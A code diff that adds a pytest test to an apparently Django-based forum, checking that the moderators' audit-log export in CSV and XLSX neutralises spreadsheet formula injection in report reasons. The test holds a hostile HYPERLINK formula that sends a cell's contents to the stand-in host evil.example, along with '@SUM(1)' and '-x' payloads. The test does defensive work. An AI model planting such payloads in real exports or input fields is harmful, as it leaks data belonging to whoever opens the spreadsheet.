@@ -3,8 +3,10 @@
 import pytest
 from django.conf import settings
 
+from forum.membership import audit
 from forum.membership.models import Application, AuditEntry
 from tests.accounts.mfa import force_login_with_2fa
+from tests.spreadsheets import assert_neutralised, download_rows
 
 from .conftest import make_application, make_user
 
@@ -145,3 +147,16 @@ def test_audit_entries_refuse_changes_in_code(submitted):
 
 def test_the_menu_shows_membership_to_moderators_only(mod_client, client, db):
     assert "Applications queue" in mod_client.get("/admin/").content.decode()
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_audit_log_export_neutralises_a_hostile_report_reason(mod_client, submitted, applicant, export_format):
+    # What forum.community.moderation.report_post records for any reporter, vetted or not.
+    reason = '=HYPERLINK("http://evil.example/?d="&D2,"Details")'
+    audit.record(actor=applicant, subject=applicant, action="forum_post_reported", reason=reason, to_state="open")
+    audit.record(actor=applicant, subject=applicant, action="forum_post_reported", reason="@SUM(1)", to_state="-x")
+
+    rows = download_rows(mod_client, "/admin/membership_audit/", export_format)
+
+    assert_neutralised(rows, [reason, "@SUM(1)", "-x"])
+    assert any(applicant.email in cell for row in rows for cell in row if isinstance(cell, str))
